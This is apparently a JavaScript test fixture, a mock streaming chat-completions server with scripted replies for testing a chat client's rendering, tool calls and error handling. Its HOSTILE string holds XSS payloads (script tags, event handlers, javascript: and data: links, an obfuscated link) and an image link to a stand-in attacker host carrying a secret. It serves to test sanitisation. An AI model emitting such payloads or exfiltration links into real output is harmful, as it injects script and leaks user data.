// A Chat Completions server for the tests. The last message selects the answer. An answer with `hold` stops half way
// until the test releases it, so that nothing depends on timing.
import { createServer } from "node:http";

const call = (id, name, args) => ({ id, name, args });

const CODE = "Here is **some** code:\n\n```rust\nfn main() {\n    println!(\"hi\");\n}\n```\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n- [x] done\n- [ ] open";

export const HOSTILE = [
  "before <script>window.pwned = 1</script> <img src=x onerror=\"window.pwned = 2\">",
  "",
  "<iframe src=\"javascript:window.pwned = 3\"></iframe>",
  "",
  "<style>body { display: none }</style><svg onload=\"window.pwned = 4\"><a href=\"javascript:window.pwned=5\">x</a></svg>",
  "",
  "[script](javascript:window.pwned=6) [data](data:text/html,<script>window.pwned=7</script>) [vb]( VBSCRIPT:x) [own](/threads)",
  "[obfuscated](java&#115;cript:window.pwned=8) <javascript:window.pwned=9>",
  "",
  "![stolen](https://attacker.invalid/steal.png?q=secret) ![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
  "",
  "[fine](https://example.com/a?b=c) `<b>code</b>`",
  "",
  "```html\n<script>window.pwned = 10</script>\n```",
  "",
  "after &lt;script&gt; the end",
].join("\n");

// Text in the last message, and the answer to it.
const judged = (result, passed, gap) =>
  JSON.stringify({ result, explanation: `It is ${result}.`, criteria: [{ name: "names a whale", passed, gap }] });

const RULES = [
  ["it names a blue whale", { text: judged("satisfied", true) }],
  ["it names a green whale", { text: judged("needs_revision", false, "there is no green one") }],
  ["say hello", { text: "Hello from the model." }],
  ["write code", { text: CODE }],
  ["hostile", { text: HOSTILE }],
  ["think first", { thinking: "First I weigh it.", text: "Thought through." }],
  ["hold on in code", { text: "```rust\nlet first = 1;\nlet second = 2;\nlet third = 3;\n```", hold: 2 }],
  ["hold on", { text: "First half, second half.", hold: true }],
  ["use echo", { text: "I will echo.", calls: [call("c_echo", "echo", { text: "hi" })] }],
  ["fail please", { calls: [call("c_fail", "fail", { text: "no luck" })] }],
  ["make todos", { calls: [call("c_todo", "write_todos", { todos: [{ content: "plan it", status: "completed" }, { content: "build it", status: "in_progress" }] })] }],
  ["write a file", { calls: [call("c_write", "write_file", { file_path: "/notes.md", content: "# Notes\n\nalpha\nbeta\n" })] }],
  ["edit the file", { calls: [call("c_edit", "edit_file", { file_path: "/notes.md", old_string: "beta", new_string: "gamma" })] }],
  ["book one", { calls: [call("c_book", "book", { place: "Oslo", seats: 1 })] }],
  ["book two", { calls: [call("c_b1", "book", { place: "Oslo", seats: 1 }), call("c_b2", "book", { place: "Rome", seats: 2 })] }],
  ["ask in words", { calls: [call("c_ask", "ask_user", { question: "What is the ship called?" })] }],
  ["ask for one", { calls: [call("c_ask", "ask_user", { question: "Which colour?", choices: ["red", "dark, blue"] })] }],
  ["ask for some", { calls: [call("c_ask", "ask_user", { question: "Which ports?", choices: ["Oslo", "Rome", "Bergen"], several: true })] }],
  ["delegate", { calls: [call("c_echo", "echo", { text: "hi" }), call("c_task", "task", { description: "research whales", subagent_type: "researcher" }), call("c_other", "task", { description: "count the ants", subagent_type: "general-purpose" })] }],
  ["research whales", { text: "Looking it up.", calls: [call("c_look", "lookup", { topic: "whales" })] }],
  ["count the ants", { text: "There are many ants." }],
  ["42 facts", { text: "Whales have 42 facts." }],
  ["break the model", { status: 400 }],
];

const text = (content) => (typeof content === "string" ? content : (content ?? []).map((part) => part.text ?? `[${part.type}]`).join(" "));

function answerTo(messages) {
  const results = [];
  for (const message of messages.toReversed()) {
    if (message.role !== "tool") break;
    results.unshift(text(message.content));
  }
  if (results.length) {
    const rule = results.map((result) => RULES.find(([words]) => words === "42 facts" && result.endsWith(`: ${words}`))).find(Boolean);
    return rule?.[1] ?? { text: `The tools said: ${results.join(" | ").slice(0, 200)}` };
  }
  const last = messages.findLast((message) => message.role === "user");
  const said = text(last?.content);
  // A test may supply the answer itself.
  const own = said.indexOf("ANSWER ");
  if (own >= 0) return JSON.parse(said.slice(own + 7));
  const pictures = Array.isArray(last?.content) ? last.content.filter((part) => part.type === "image_url").length : 0;
  if (pictures) return { text: `I see ${pictures} picture.` };
  return RULES.find(([words]) => said.includes(words))?.[1] ?? { text: `You said: ${said.slice(0, 200)}` };
}

export async function startModel() {
  let held = [];
  const waiters = [];
  const server = createServer(async (request, response) => {
    let body = "";
    for await (const piece of request) body += piece;
    const answer = answerTo(JSON.parse(body).messages);
    if (answer.status) {
      response.writeHead(answer.status, { "content-type": "application/json" });
      response.end(JSON.stringify({ error: { message: "scripted refusal", type: "invalid_request_error" } }));
      return;
    }
    response.writeHead(200, { "content-type": "text/event-stream" });
    const send = (delta, more = {}) =>
      response.write(`data: ${JSON.stringify({ id: "x", object: "chat.completion.chunk", model: "gpt-4.1", choices: [{ index: 0, delta, finish_reason: null, ...more }] })}\n\n`);
    send({ role: "assistant", content: "" });
    if (answer.thinking) send({ reasoning_content: answer.thinking });
    const pieces = (answer.text ?? "").match(/[\s\S]{1,12}/g) ?? [];
    for (const [at, piece] of pieces.entries()) {
      if (answer.hold && at === Number(answer.hold)) {
        await new Promise((release) => {
          held.push(release);
          response.on("close", () => {
            held = held.filter((one) => one !== release);
            release();
          });
          waiters.splice(0).forEach((tell) => tell());
        });
      }
      send({ content: piece });
    }
    (answer.calls ?? []).forEach(({ id, name, args }, index) => {
      const written = typeof args === "string" ? args : JSON.stringify(args);
      send({ tool_calls: [{ index, id, type: "function", function: { name, arguments: written.slice(0, 5) } }] });
      send({ tool_calls: [{ index, function: { arguments: written.slice(5) } }] });
    });
    send({}, { finish_reason: answer.calls ? "tool_calls" : "stop" });
    const usage = { prompt_tokens: 1000, completion_tokens: 50, total_tokens: 1050 };
    response.end(`data: ${JSON.stringify({ id: "x", object: "chat.completion.chunk", choices: [], usage })}\n\ndata: [DONE]\n\n`);
  });
  await new Promise((ready) => server.listen(0, "127.0.0.1", ready));
  return {
    url: `http://127.0.0.1:${server.address().port}`,
    /** Waits until an answer is held. */
    isHeld: () => (held.length ? Promise.resolve() : new Promise((tell) => waiters.push(tell))),
    /** Releases held answers. */
    release() {
      held.forEach((release) => release());
      held = [];
    },
    close: () => server.close(),
  };
}

if (process.argv[1]?.endsWith("model.mjs")) console.log((await startModel()).url);
